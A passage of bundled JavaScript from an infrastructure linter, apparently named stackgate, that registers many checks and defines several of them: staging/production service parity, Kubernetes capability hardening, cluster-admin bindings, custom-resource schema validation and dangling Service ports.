Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const _promotion_1 = __webpack_require__(32380);
exports["default"] = (0, types_1.defineCheck)({
    id: 'environments/services-consistent',
    target: 'repository',
    meta: {
        title: 'Services differ between production and the environment before it',
        category: 'operations',
        severity: 'warning',
        rationale: 'Staging exists to run what production will run. A service that only production runs was never exercised before it went live (its config, its network, its secrets); a service that staging runs but production lacks means a dependency tested in staging is missing in production. Development environments may run extra tools; the environment promoted to production may not.',
        remediation: "Make the Compose stacks of the environment before production (staging) and of production run the same services: move the service to the shared base file, or add it to the missing environment's override; use profiles for deliberate one-off tools.",
        messages: {
            untested: 'service "{{service}}" of stack {{stack}} runs in {{production}} but not in {{previous}}: it is never tested before production',
            missingInProduction: 'service "{{service}}" of stack {{stack}} runs in {{previous}} but not in {{production}}',
        },
    },
    check(ctx) {
        const pairs = (0, _promotion_1.promotions)(ctx.compose.environments);
        if (!pairs.length || !ctx.compose.stacks.length)
            return ctx.notApplicable();
        for (const { from, to } of pairs) {
            const before = servicesByStack(ctx.compose.effective.get(from.name) ?? []);
            const after = servicesByStack(ctx.compose.effective.get(to.name) ?? []);
            for (const stack of new Set([...before.keys(), ...after.keys()])) {
                const b = before.get(stack) ?? new Map();
                const a = after.get(stack) ?? new Map();
                const data = (service) => ({ service, stack, production: to.name, previous: from.name });
                for (const [name, s] of a)
                    if (!b.has(name))
                        ctx.report({ messageId: 'untested', data: data(name), at: s.loc });
                if ((0, _promotion_1.isDevelopmentName)(from.name))
                    continue;
                for (const [name, s] of b)
                    if (!a.has(name))
                        ctx.report({ messageId: 'missingInProduction', data: data(name), at: s.loc });
            }
        }
    },
});
function servicesByStack(stacks) {
    return new Map(stacks.map((s) => [s.name, new Map(s.services.map((svc) => [svc.name, svc]))]));
}


/***/ }),

/***/ 12293:
/***/ (function(__unused_webpack_module, exports, __webpack_require__) {


var __importDefault = (this && this.__importDefault) || function (mod) {
    return (mod && mod.__esModule) ? mod : { "default": mod };
};
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.CHECKS = void 0;
const actions_pinned_1 = __importDefault(__webpack_require__(97132));
const deploy_concurrency_1 = __importDefault(__webpack_require__(67965));
const deploy_on_merge_1 = __importDefault(__webpack_require__(13792));
const job_timeout_1 = __importDefault(__webpack_require__(26871));
const permissions_1 = __importDefault(__webpack_require__(40970));
const promotion_gated_1 = __importDefault(__webpack_require__(6027));
const script_injection_1 = __importDefault(__webpack_require__(55051));
const secret_scan_1 = __importDefault(__webpack_require__(28604));
const untrusted_checkout_1 = __importDefault(__webpack_require__(27177));
const validate_on_pull_request_1 = __importDefault(__webpack_require__(9324));
const workflows_present_1 = __importDefault(__webpack_require__(24766));
const cap_add_dangerous_1 = __importDefault(__webpack_require__(4281));
const cap_drop_all_1 = __importDefault(__webpack_require__(31248));
const container_name_1 = __importDefault(__webpack_require__(44657));
const cpu_limit_1 = __importDefault(__webpack_require__(61362));
const depends_on_healthy_1 = __importDefault(__webpack_require__(12079));
const depends_on_unknown_1 = __importDefault(__webpack_require__(40380));
const docker_socket_mount_1 = __importDefault(__webpack_require__(56316));
const duplicate_env_1 = __importDefault(__webpack_require__(76461));
const env_file_missing_1 = __importDefault(__webpack_require__(43389));
const hardcoded_secret_1 = __importDefault(__webpack_require__(80563));
const healthcheck_incomplete_1 = __importDefault(__webpack_require__(2949));
const healthcheck_missing_1 = __importDefault(__webpack_require__(19497));
const host_namespace_1 = __importDefault(__webpack_require__(64912));
const image_digest_1 = __importDefault(__webpack_require__(8128));
const image_latest_tag_1 = __importDefault(__webpack_require__(41970));
const invalid_env_file_1 = __importDefault(__webpack_require__(45446));
const invalid_extends_1 = __importDefault(__webpack_require__(87569));
const invalid_interpolation_1 = __importDefault(__webpack_require__(37714));
const log_rotation_1 = __importDefault(__webpack_require__(89391));
const memory_limit_1 = __importDefault(__webpack_require__(58757));
const missing_stack_file_1 = __importDefault(__webpack_require__(15274));
const monitoring_labels_1 = __importDefault(__webpack_require__(34760));
const no_new_privileges_1 = __importDefault(__webpack_require__(2465));
const non_root_user_1 = __importDefault(__webpack_require__(19988));
const path_outside_repository_1 = __importDefault(__webpack_require__(95270));
const port_conflict_1 = __importDefault(__webpack_require__(58430));
const privileged_1 = __importDefault(__webpack_require__(10341));
const published_all_interfaces_1 = __importDefault(__webpack_require__(69663));
const read_only_rootfs_1 = __importDefault(__webpack_require__(38395));
const required_variable_missing_1 = __importDefault(__webpack_require__(44403));
const restart_policy_1 = __importDefault(__webpack_require__(98904));
const schema_1 = __importDefault(__webpack_require__(57387));
const sensitive_host_mount_1 = __importDefault(__webpack_require__(19853));
const ssh_port_1 = __importDefault(__webpack_require__(75930));
const undefined_reference_1 = __importDefault(__webpack_require__(56114));
const undefined_variable_1 = __importDefault(__webpack_require__(2515));
const version_obsolete_1 = __importDefault(__webpack_require__(44768));
const duplicate_key_1 = __importDefault(__webpack_require__(35570));
const empty_file_1 = __importDefault(__webpack_require__(46947));
const file_too_large_1 = __importDefault(__webpack_require__(65022));
const file_unreadable_1 = __importDefault(__webpack_require__(76403));
const invalid_suppression_1 = __importDefault(__webpack_require__(88076));
const parse_error_1 = __importDefault(__webpack_require__(64809));
const symlink_outside_repository_1 = __importDefault(__webpack_require__(15893));
const yaml_alias_limit_1 = __importDefault(__webpack_require__(81637));
const add_instead_of_copy_1 = __importDefault(__webpack_require__(47548));
const add_url_1 = __importDefault(__webpack_require__(71767));
const apk_no_cache_1 = __importDefault(__webpack_require__(39403));
const apt_cache_1 = __importDefault(__webpack_require__(14384));
const apt_no_install_recommends_1 = __importDefault(__webpack_require__(64341));
const cd_in_run_1 = __importDefault(__webpack_require__(65077));
const chmod_world_writable_1 = __importDefault(__webpack_require__(7097));
const cmd_shell_form_1 = __importDefault(__webpack_require__(41430));
const curl_pipe_shell_1 = __importDefault(__webpack_require__(6158));
const from_digest_1 = __importDefault(__webpack_require__(21811));
const from_latest_1 = __importDefault(__webpack_require__(88376));
const healthcheck_missing_2 = __importDefault(__webpack_require__(72223));
const invalid_instruction_1 = __importDefault(__webpack_require__(39722));
const maintainer_deprecated_1 = __importDefault(__webpack_require__(452));
const multi_stage_1 = __importDefault(__webpack_require__(93970));
const npm_ci_1 = __importDefault(__webpack_require__(18450));
const pip_no_cache_1 = __importDefault(__webpack_require__(90322));
const secret_in_env_arg_1 = __importDefault(__webpack_require__(39523));
const sudo_1 = __importDefault(__webpack_require__(99751));
const user_root_1 = __importDefault(__webpack_require__(57270));
const workdir_relative_1 = __importDefault(__webpack_require__(773));
const architecture_1 = __importDefault(__webpack_require__(99906));
const backup_1 = __importDefault(__webpack_require__(7207));
const readme_1 = __importDefault(__webpack_require__(45123));
const restore_procedure_1 = __importDefault(__webpack_require__(65775));
const runbook_links_1 = __importDefault(__webpack_require__(79441));
const runbooks_1 = __importDefault(__webpack_require__(48792));
const image_parity_1 = __importDefault(__webpack_require__(48939));
const overrides_present_1 = __importDefault(__webpack_require__(7487));
const production_defined_1 = __importDefault(__webpack_require__(5037));
const services_consistent_1 = __importDefault(__webpack_require__(44223));
const capabilities_drop_all_1 = __importDefault(__webpack_require__(53732));
const cluster_admin_binding_1 = __importDefault(__webpack_require__(1838));
const custom_resource_schema_1 = __importDefault(__webpack_require__(9794));
const dangerous_capabilities_1 = __importDefault(__webpack_require__(10809));
const dangling_service_port_1 = __importDefault(__webpack_require__(24104));
const default_namespace_1 = __importDefault(__webpack_require__(81777));
const deprecated_api_version_1 = __importDefault(__webpack_require__(82053));
const deprecated_service_account_1 = __importDefault(__webpack_require__(26549));
const duplicate_env_2 = __importDefault(__webpack_require__(65365));
const helm_not_rendered_1 = __importDefault(__webpack_require__(40100));
const helm_template_1 = __importDefault(__webpack_require__(3691));
const helm_values_unchecked_1 = __importDefault(__webpack_require__(50998));
const host_namespaces_1 = __importDefault(__webpack_require__(18079));
const host_path_1 = __importDefault(__webpack_require__(47664));
const host_port_1 = __importDefault(__webpack_require__(13116));
const identical_probes_1 = __importDefault(__webpack_require__(58245));
const image_digest_2 = __importDefault(__webpack_require__(85944));
const image_latest_tag_2 = __importDefault(__webpack_require__(13754));
const image_pull_policy_1 = __importDefault(__webpack_require__(72934));
const incomplete_manifest_1 = __importDefault(__webpack_require__(33576));
const kustomize_build_1 = __importDefault(__webpack_require__(24584));
const liveness_probe_1 = __importDefault(__webpack_require__(51150));
const missing_labels_1 = __importDefault(__webpack_require__(55752));
const network_policy_allow_all_1 = __importDefault(__webpack_require__(27881));
const network_policy_coverage_1 = __importDefault(__webpack_require__(69782));
const pdb_blocks_eviction_1 = __importDefault(__webpack_require__(957));
const pod_disruption_budget_1 = __importDefault(__webpack_require__(31461));
const privilege_escalation_1 = __importDefault(__webpack_require__(13211));
const privileged_container_1 = __importDefault(__webpack_require__(7031));
const probe_port_1 = __importDefault(__webpack_require__(33474));
const rbac_pod_exec_1 = __importDefault(__webpack_require__(10770));
const rbac_secrets_access_1 = __importDefault(__webpack_require__(46647));
const rbac_wildcard_1 = __importDefault(__webpack_require__(83671));
const read_only_root_filesystem_1 = __importDefault(__webpack_require__(17082));
const readiness_probe_1 = __importDefault(__webpack_require__(90749));
const replicas_1 = __importDefault(__webpack_require__(44145));
const resource_limits_1 = __importDefault(__webpack_require__(13797));
const resource_requests_1 = __importDefault(__webpack_require__(41707));
const run_as_non_root_1 = __importDefault(__webpack_require__(45355));
const schema_2 = __importDefault(__webpack_require__(77923));
const seccomp_profile_1 = __importDefault(__webpack_require__(43044));
const secret_in_configmap_1 = __importDefault(__webpack_require__(64831));
const secret_in_env_1 = __importDefault(__webpack_require__(27296));
const selector_template_mismatch_1 = __importDefault(__webpack_require__(18333));
const sensitive_host_path_1 = __importDefault(__webpack_require__(90365));
const service_account_token_1 = __importDefault(__webpack_require__(82251));
const service_selector_mismatch_1 = __importDefault(__webpack_require__(38172));
const service_selects_operator_pods_1 = __importDefault(__webpack_require__(69923));
const ssh_port_2 = __importDefault(__webpack_require__(2530));
const unknown_custom_resource_1 = __importDefault(__webpack_require__(1083));
const unsafe_sysctls_1 = __importDefault(__webpack_require__(91572));
const litellm_registered_1 = __importDefault(__webpack_require__(65194));
const litellm_url_matches_1 = __importDefault(__webpack_require__(56333));
const smoke_tests_1 = __importDefault(__webpack_require__(92411));
const transport_declared_1 = __importDefault(__webpack_require__(85702));
const unique_ports_1 = __importDefault(__webpack_require__(50918));
const alert_annotations_1 = __importDefault(__webpack_require__(79033));
const alert_error_rate_1 = __importDefault(__webpack_require__(15992));
const alert_latency_1 = __importDefault(__webpack_require__(51585));
const alert_memory_1 = __importDefault(__webpack_require__(29716));
const alert_missing_for_1 = __importDefault(__webpack_require__(24069));
const alert_runbook_url_1 = __importDefault(__webpack_require__(15443));
const alert_service_down_1 = __importDefault(__webpack_require__(92969));
const alert_severity_label_1 = __importDefault(__webpack_require__(69575));
const alertmanager_configured_1 = __importDefault(__webpack_require__(68244));
const dashboard_datasource_1 = __importDefault(__webpack_require__(34512));
const dashboard_per_service_1 = __importDefault(__webpack_require__(86576));
const dashboard_valid_1 = __importDefault(__webpack_require__(99471));
const duplicate_rule_1 = __importDefault(__webpack_require__(49400));
const log_shipping_1 = __importDefault(__webpack_require__(45853));
const promtool_1 = __importDefault(__webpack_require__(27602));
const recording_rule_name_1 = __importDefault(__webpack_require__(91456));
const rule_expression_1 = __importDefault(__webpack_require__(3255));
const scrape_config_1 = __importDefault(__webpack_require__(76381));
const service_scraped_1 = __importDefault(__webpack_require__(92490));
const committed_secrets_1 = __importDefault(__webpack_require__(38057));
const compose_secrets_in_production_1 = __importDefault(__webpack_require__(29847));
const env_example_1 = __importDefault(__webpack_require__(5475));
const env_files_ignored_1 = __importDefault(__webpack_require__(87465));
/** Every check, sorted by id. */
exports.CHECKS = [
    actions_pinned_1.default,
    deploy_concurrency_1.default,
    deploy_on_merge_1.default,
    job_timeout_1.default,
    permissions_1.default,
    promotion_gated_1.default,
    script_injection_1.default,
    secret_scan_1.default,
    untrusted_checkout_1.default,
    validate_on_pull_request_1.default,
    workflows_present_1.default,
    cap_add_dangerous_1.default,
    cap_drop_all_1.default,
    container_name_1.default,
    cpu_limit_1.default,
    depends_on_healthy_1.default,
    depends_on_unknown_1.default,
    docker_socket_mount_1.default,
    duplicate_env_1.default,
    env_file_missing_1.default,
    hardcoded_secret_1.default,
    healthcheck_incomplete_1.default,
    healthcheck_missing_1.default,
    host_namespace_1.default,
    image_digest_1.default,
    image_latest_tag_1.default,
    invalid_env_file_1.default,
    invalid_extends_1.default,
    invalid_interpolation_1.default,
    log_rotation_1.default,
    memory_limit_1.default,
    missing_stack_file_1.default,
    monitoring_labels_1.default,
    no_new_privileges_1.default,
    non_root_user_1.default,
    path_outside_repository_1.default,
    port_conflict_1.default,
    privileged_1.default,
    published_all_interfaces_1.default,
    read_only_rootfs_1.default,
    required_variable_missing_1.default,
    restart_policy_1.default,
    schema_1.default,
    sensitive_host_mount_1.default,
    ssh_port_1.default,
    undefined_reference_1.default,
    undefined_variable_1.default,
    version_obsolete_1.default,
    duplicate_key_1.default,
    empty_file_1.default,
    file_too_large_1.default,
    file_unreadable_1.default,
    invalid_suppression_1.default,
    parse_error_1.default,
    symlink_outside_repository_1.default,
    yaml_alias_limit_1.default,
    add_instead_of_copy_1.default,
    add_url_1.default,
    apk_no_cache_1.default,
    apt_cache_1.default,
    apt_no_install_recommends_1.default,
    cd_in_run_1.default,
    chmod_world_writable_1.default,
    cmd_shell_form_1.default,
    curl_pipe_shell_1.default,
    from_digest_1.default,
    from_latest_1.default,
    healthcheck_missing_2.default,
    invalid_instruction_1.default,
    maintainer_deprecated_1.default,
    multi_stage_1.default,
    npm_ci_1.default,
    pip_no_cache_1.default,
    secret_in_env_arg_1.default,
    sudo_1.default,
    user_root_1.default,
    workdir_relative_1.default,
    architecture_1.default,
    backup_1.default,
    readme_1.default,
    restore_procedure_1.default,
    runbook_links_1.default,
    runbooks_1.default,
    image_parity_1.default,
    overrides_present_1.default,
    production_defined_1.default,
    services_consistent_1.default,
    capabilities_drop_all_1.default,
    cluster_admin_binding_1.default,
    custom_resource_schema_1.default,
    dangerous_capabilities_1.default,
    dangling_service_port_1.default,
    default_namespace_1.default,
    deprecated_api_version_1.default,
    deprecated_service_account_1.default,
    duplicate_env_2.default,
    helm_not_rendered_1.default,
    helm_template_1.default,
    helm_values_unchecked_1.default,
    host_namespaces_1.default,
    host_path_1.default,
    host_port_1.default,
    identical_probes_1.default,
    image_digest_2.default,
    image_latest_tag_2.default,
    image_pull_policy_1.default,
    incomplete_manifest_1.default,
    kustomize_build_1.default,
    liveness_probe_1.default,
    missing_labels_1.default,
    network_policy_allow_all_1.default,
    network_policy_coverage_1.default,
    pdb_blocks_eviction_1.default,
    pod_disruption_budget_1.default,
    privilege_escalation_1.default,
    privileged_container_1.default,
    probe_port_1.default,
    rbac_pod_exec_1.default,
    rbac_secrets_access_1.default,
    rbac_wildcard_1.default,
    read_only_root_filesystem_1.default,
    readiness_probe_1.default,
    replicas_1.default,
    resource_limits_1.default,
    resource_requests_1.default,
    run_as_non_root_1.default,
    schema_2.default,
    seccomp_profile_1.default,
    secret_in_configmap_1.default,
    secret_in_env_1.default,
    selector_template_mismatch_1.default,
    sensitive_host_path_1.default,
    service_account_token_1.default,
    service_selector_mismatch_1.default,
    service_selects_operator_pods_1.default,
    ssh_port_2.default,
    unknown_custom_resource_1.default,
    unsafe_sysctls_1.default,
    litellm_registered_1.default,
    litellm_url_matches_1.default,
    smoke_tests_1.default,
    transport_declared_1.default,
    unique_ports_1.default,
    alert_annotations_1.default,
    alert_error_rate_1.default,
    alert_latency_1.default,
    alert_memory_1.default,
    alert_missing_for_1.default,
    alert_runbook_url_1.default,
    alert_service_down_1.default,
    alert_severity_label_1.default,
    alertmanager_configured_1.default,
    dashboard_datasource_1.default,
    dashboard_per_service_1.default,
    dashboard_valid_1.default,
    duplicate_rule_1.default,
    log_shipping_1.default,
    promtool_1.default,
    recording_rule_name_1.default,
    rule_expression_1.default,
    scrape_config_1.default,
    service_scraped_1.default,
    committed_secrets_1.default,
    compose_secrets_in_production_1.default,
    env_example_1.default,
    env_files_ignored_1.default,
];


/***/ }),

/***/ 53732:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const objects_1 = __webpack_require__(35704);
const pod_security_1 = __webpack_require__(95002);
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/capabilities-drop-all',
    target: 'kubernetes-object',
    meta: {
        title: 'Container keeps the default Linux capabilities',
        category: 'security',
        severity: 'warning',
        rationale: 'Container runtimes grant a default set of capabilities (NET_RAW, CHOWN, SETUID, ...) that an MCP server rarely needs; NET_RAW alone allows ARP and DNS spoofing inside the cluster network. The "restricted" Pod Security Standard requires dropping ALL; kube-linter (drop-net-raw-capability) and Polaris (insecureCapabilities) flag it.',
        remediation: 'Set `securityContext.capabilities.drop: ["ALL"]` and add back only what is needed, e.g. `add: ["NET_BIND_SERVICE"]` to bind a port below 1024.',
        messages: {
            notDropped: '{{object}}: container "{{container}}" does not drop ALL capabilities',
        },
    },
    check(ctx) {
        for (const c of (0, objects_1.containersOf)(ctx.object)) {
            if (!(0, pod_security_1.isRunnable)(c))
                continue;
            const caps = (0, pod_security_1.containerSecurityContext)(c).capabilities;
            const drop = caps && typeof caps === 'object' ? caps.drop : undefined;
            if (Array.isArray(drop) && drop.some((d) => typeof d === 'string' && d.toUpperCase() === 'ALL'))
                continue;
            const at = drop !== undefined
                ? [...c.path, 'securityContext', 'capabilities', 'drop']
                : caps !== undefined
                    ? [...c.path, 'securityContext', 'capabilities']
                    : c.path;
            ctx.report({ messageId: 'notDropped', data: { object: (0, objects_1.objectLabel)(ctx.object), container: c.name }, at });
        }
    },
});


/***/ }),

/***/ 1838:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const objects_1 = __webpack_require__(35704);
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/cluster-admin-binding',
    target: 'kubernetes-object',
    meta: {
        title: 'Binding grants cluster-admin',
        category: 'security',
        severity: 'error',
        rationale: 'cluster-admin can do anything to any object. Bound to a service account, every pod using it (and anyone who steals its token) owns the cluster; even in a RoleBinding it gives full control of the namespace, Secrets included. Polaris (clusterrolebindingClusterAdmin, rolebindingClusterAdminClusterRole) flags it.',
        remediation: 'Bind a Role with only the verbs and resources the subject needs; reserve cluster-admin for break-glass human access outside the application manifests.',
        messages: {
            clusterAdmin: '{{object}} binds {{subjects}} to cluster-admin',
        },
    },
    check(ctx) {
        const obj = ctx.object;
        if ((obj.kind !== 'RoleBinding' && obj.kind !== 'ClusterRoleBinding') || !obj.apiVersion.startsWith('rbac.authorization.k8s.io/'))
            return;
        const ref = obj.value.roleRef;
        if (!ref || typeof ref !== 'object' || ref.kind !== 'ClusterRole' || ref.name !== 'cluster-admin')
            return;
        const subjects = Array.isArray(obj.value.subjects)
            ? obj.value.subjects
                .filter((s) => s && typeof s === 'object')
                .map((s) => `${String(s.kind ?? '?')} ${String(s.name ?? '?')}`)
                .join(', ')
            : '';
        ctx.report({ messageId: 'clusterAdmin', data: { object: (0, objects_1.objectLabel)(obj), subjects: subjects || 'its subjects' }, at: ['roleRef', 'name'] });
    },
});


/***/ }),

/***/ 9794:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const custom_resources_1 = __webpack_require__(18433);
const objects_1 = __webpack_require__(35704);
const schema_1 = __webpack_require__(80757);
const yaml_tree_1 = __webpack_require__(43183);
const types_1 = __webpack_require__(15200);
const MAX_PROBLEMS_PER_OBJECT = 20;
/** Schemas from stackgate.yml `kubernetes.schemas` (loaded by the engine, see custom-resources.ts). */
function configuredSchemas(ctx) {
    return ctx.customSchemas;
}
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/custom-resource-schema',
    target: 'kubernetes-set',
    meta: {
        title: 'Custom resource does not match its schema',
        category: 'correctness',
        severity: 'error',
        rationale: 'The API server validates custom resources against the openAPIV3Schema of their CustomResourceDefinition and rejects unknown fields (kubectl uses strict field validation). A ServiceMonitor with a misspelled field or a string where an integer belongs fails the sync, or is silently ignored by the operator, and the MCP server goes unmonitored.',
        remediation: 'Fix the field named in the message against the CRD (`kubectl explain <kind>.spec`), or update the CustomResourceDefinition in the repository if the schema is outdated.',
        messages: {
            invalid: '{{object}}: {{detail}} (schema: {{origin}})',
            versionNotServed: '{{object}}: version {{version}} is not defined by CustomResourceDefinition {{crd}} (it defines {{versions}})',
            badSchema: 'the schema for {{key}} from {{origin}} cannot be used: {{detail}}',
            truncated: '{{object}}: {{count}} more schema problems not shown',
        },
    },
    check(ctx) {
        const crds = (0, custom_resources_1.customResourceDefinitions)(ctx.objects);
        const configured = configuredSchemas(ctx);
        const badSchemas = new Set();
        for (const obj of ctx.objects) {
            if ((0, schema_1.isBuiltInGroup)(obj.apiVersion) || (0, schema_1.isClientSideConfig)(obj.apiVersion, obj.kind))
                continue;
            const group = (0, schema_1.groupOf)(obj.apiVersion);
            const version = (0, schema_1.versionOf)(obj.apiVersion);
            const key = (0, custom_resources_1.schemaKey)(obj.apiVersion, obj.kind);
            const label = (0, objects_1.objectLabel)(obj);
            const definition = crds.find((d) => d.group === group && d.kind === obj.kind);
            let schema;
            if (definition) {
                const v = definition.versions.find((x) => x.name === version);
                if (!v) {
                    ctx.report({
                        messageId: 'versionNotServed',
                        data: { object: label, version, crd: definition.crd.name, versions: definition.versions.map((x) => x.name).join(', ') || 'none' },
                        at: (0, yaml_tree_1.locate)(obj.root, ['apiVersion'], obj.loc),
                    });
                    continue;
                }
                if (v.schema)
                    schema = { key, schema: v.schema, origin: `${definition.crd.file}`, crd: definition.crd, path: v.path };
            }
            schema ??= configured?.get(key);
            if (!schema) {
                const builtIn = (0, custom_resources_1.builtInCustomSchema)(obj.apiVersion, obj.kind);
                if (builtIn)
                    schema = { key, schema: builtIn, origin: 'built-in' };
            }
            if (!schema)
                continue;
            const result = (0, custom_resources_1.validateCustom)(schema.schema, (0, objects_1.withoutSopsMetadata)(obj.value));
            if (!result.ok) {
                if (badSchemas.has(key))
                    continue;
                badSchemas.add(key);
                const at = schema.crd ? (0, yaml_tree_1.locate)(schema.crd.root, schema.path ?? [], schema.crd.loc) : (0, yaml_tree_1.locate)(obj.root, ['apiVersion'], obj.loc);
                ctx.report({ messageId: 'badSchema', data: { key, origin: schema.origin, detail: result.error }, at });
                continue;
            }
            reportProblems(ctx, obj, label, schema.origin, result.errors);
        }
    },
});
function reportProblems(ctx, obj, label, origin, errors) {
    const problems = (0, schema_1.summarizeSchemaErrors)(obj.root, errors);
    for (const p of problems.slice(0, MAX_PROBLEMS_PER_OBJECT)) {
        ctx.report({ messageId: 'invalid', data: { object: label, detail: p.message, origin }, at: (0, yaml_tree_1.locate)(obj.root, p.path, obj.loc) });
    }
    if (problems.length > MAX_PROBLEMS_PER_OBJECT) {
        ctx.report({ messageId: 'truncated', data: { object: label, count: problems.length - MAX_PROBLEMS_PER_OBJECT }, at: (0, yaml_tree_1.locate)(obj.root, [], obj.loc) });
    }
}


/***/ }),

/***/ 10809:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const objects_1 = __webpack_require__(35704);
const helm_values_settings_1 = __webpack_require__(3439);
const pod_security_1 = __webpack_require__(95002);
const types_1 = __webpack_require__(15200);
/** Capabilities that amount to root on the node or on its network. */
const DANGEROUS = new Set([
    'ALL',
    'SYS_ADMIN',
    'NET_ADMIN',
    'SYS_MODULE',
    'SYS_PTRACE',
    'SYS_RAWIO',
    'SYS_BOOT',
    'SYS_TIME',
    'DAC_READ_SEARCH',
    'BPF',
    'PERFMON',
    'MAC_ADMIN',
    'MAC_OVERRIDE',
]);
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/dangerous-capabilities',
    target: 'kubernetes-object',
    meta: {
        title: 'Container adds a dangerous Linux capability',
        category: 'security',
        severity: 'error',
        rationale: 'SYS_ADMIN, NET_ADMIN, SYS_PTRACE, SYS_MODULE and ALL let a process mount filesystems, rewrite the node network, read other processes or load kernel modules: a container breakout away. Polaris (dangerousCapabilities) and the "baseline" Pod Security Standard reject them.',
        remediation: 'Remove the capability from `securityContext.capabilities.add`. If the server really needs one (rare for MCP servers), run it in a dedicated, isolated node pool and document why with a suppression comment.',
        messages: {
            dangerous: '{{object}}: container "{{container}}" adds capability {{capability}}',
            helmValues: '{{object}}: Helm values {{field}} add capability {{capability}} to a container of the chart ({{setting}})',
        },
    },
    check(ctx) {
        for (const c of (0, objects_1.containersOf)(ctx.object)) {
            const caps = (0, pod_security_1.containerSecurityContext)(c).capabilities;
            const add = caps && typeof caps === 'object' ? caps.add : undefined;
            if (!Array.isArray(add))
                continue;
            add.forEach((cap, i) => {
                if (typeof cap !== 'string')
                    return;
                const name = cap.toUpperCase().replace(/^CAP_/, '');
                if (!DANGEROUS.has(name))
                    return;
                ctx.report({
                    messageId: 'dangerous',
                    data: { object: (0, objects_1.objectLabel)(ctx.object), container: c.name, capability: name },
                    at: [...c.path, 'securityContext', 'capabilities', 'add', i],
                });
            });
        }
        for (const ref of (0, helm_values_settings_1.helmValuesSettingsOf)(ctx.object, 'capability')) {
            if (!DANGEROUS.has(ref.setting.capability))
                continue;
            ctx.report({
                messageId: 'helmValues',
                data: { object: (0, objects_1.objectLabel)(ctx.object), field: ref.field, setting: ref.name, capability: ref.setting.capability },
                at: ref.at,
            });
        }
    },
});


/***/ }),

/***/ 24104:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const label_selector_1 = __webpack_require__(83758);
const objects_1 = __webpack_require__(35704);
const placeholders_1 = __webpack_require__(87328);
const pod_template_index_1 = __webpack_require__(93447);
const yaml_tree_1 = __webpack_require__(43183);
const types_1 = __webpack_require__(15200);
function portNames(obj) {
    const names = new Set();
    for (const c of (0, objects_1.containersOf)(obj)) {
        if (c.kind === 'ephemeralContainer' || !Array.isArray(c.value.ports))
            continue;
        for (const p of c.value.ports)
            if (p && typeof p === 'object' && typeof p.name === 'string')
                names.add(p.name);
    }
    return names;
}
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/dangling-service-port',
    target: 'kubernetes-set',
    meta: {
        title: 'Service targets a port name its pods do not define',
        category: 'correctness',
        severity: 'error',
        rationale: 'A named `targetPort` is resolved against the `ports[].name` of the selected pods; when no container defines that name the Service has no ready endpoints for the port and every request fails. kube-linter (invalid-target-ports, dangling-service) covers related cases.',
        remediation: "Name the container port (`ports: [{ name: http, containerPort: 8080 }]`) the same as the Service's `targetPort`, or use the port number.",
        messages: {
            unknownName: 'Service "{{service}}" port {{port}} targets "{{target}}", which no container of {{workloads}} defines',
        },
    },
    check(ctx) {
        const index = new pod_template_index_1.PodTemplateIndex(ctx.objects);
        const names = new Map();
        const namesOf = (w) => {
            let n = names.get(w);
            if (!n)
                names.set(w, (n = portNames(w)));
            return n;
        };
        for (const svc of ctx.objects) {
            if (svc.kind !== 'Service' || svc.apiVersion !== 'v1')
                continue;
            const spec = svc.value.spec;
            if (!spec || typeof spec !== 'object' || !Array.isArray(spec.ports))
                continue;
            const selector = spec.selector;
            if (!selector || typeof selector !== 'object' || !Object.keys(selector).length)
                continue;
            const selected = index
                .near(svc)
                .filter((c) => (0, label_selector_1.matchesLabelMap)(selector, c.labels))
                .map((c) => c.workload);
            // No selected workload is kubernetes/service-selector-mismatch's finding.
            if (!selected.length)
                continue;
            spec.ports.forEach((p, i) => {
                if (!p || typeof p !== 'object')
                    return;
                const { targetPort, port, name } = p;
                // A Flux `${APP_PORT}` placeholder becomes a number or a name only after substitution.
                if (typeof targetPort !== 'string' || /^\d+$/.test(targetPort) || (0, placeholders_1.hasPlaceholder)(targetPort))
                    return;
                const missing = selected.filter((w) => !namesOf(w).has(targetPort));
                if (!missing.length)
                    return;
                ctx.report({
                    messageId: 'unknownName',
                    data: {
                        service: (0, objects_1.objectLabel)(svc).replace(/^Service\//, ''),
                        port: typeof name === 'string' ? `"${name}"` : String(port ?? `#${i + 1}`),
                        target: targetPort,
                        workloads: missing.map(objects_1.objectLabel).join(', '),
                    },
                    at: (0, yaml_tree_1.locate)(svc.root, ['spec', 'ports', i, 'targetPort'], svc.loc),
                });
            });
        }
    },
});


/***/ }),

/***/ 81777:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const schema_1 = __webpack_require__(80757);
const workload_kinds_1 = __webpack_require__(75581);
const yaml_tree_1 = __webpack_require__(43183);
const types_1 = __webpack_require__(15200);
function dirOf(file) {
    const i = file.lastIndexOf('/');
    return i < 0 ? '' : file.slice(0, i);
}
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/default-namespace',
    target: 'kubernetes-set',
    meta: {
        title: 'Object is deployed to the default namespace',
        category: 'operations',
        severity: 'info',
        rationale: "Objects without a namespace land wherever the applying tool points (usually `default`), so the same manifest can end up in different places, collide with other teams' objects, and escape the ResourceQuotas, NetworkPolicies and Pod Security labels set on the intended namespace.",
        remediation: 'Set `metadata.namespace` on every namespaced object, or set `namespace:` in the kustomization.yaml that includes the manifest.',
        messages: {
            missing: '{{kind}} "{{name}}" has no metadata.namespace',
            explicitDefault: '{{kind}} "{{name}}" is deployed to the default namespace',
        },
    },
    check(ctx) {
        // A kustomization with `namespace:` sets it on every resource below its directory.
        const kustomizeDirs = ctx.objects
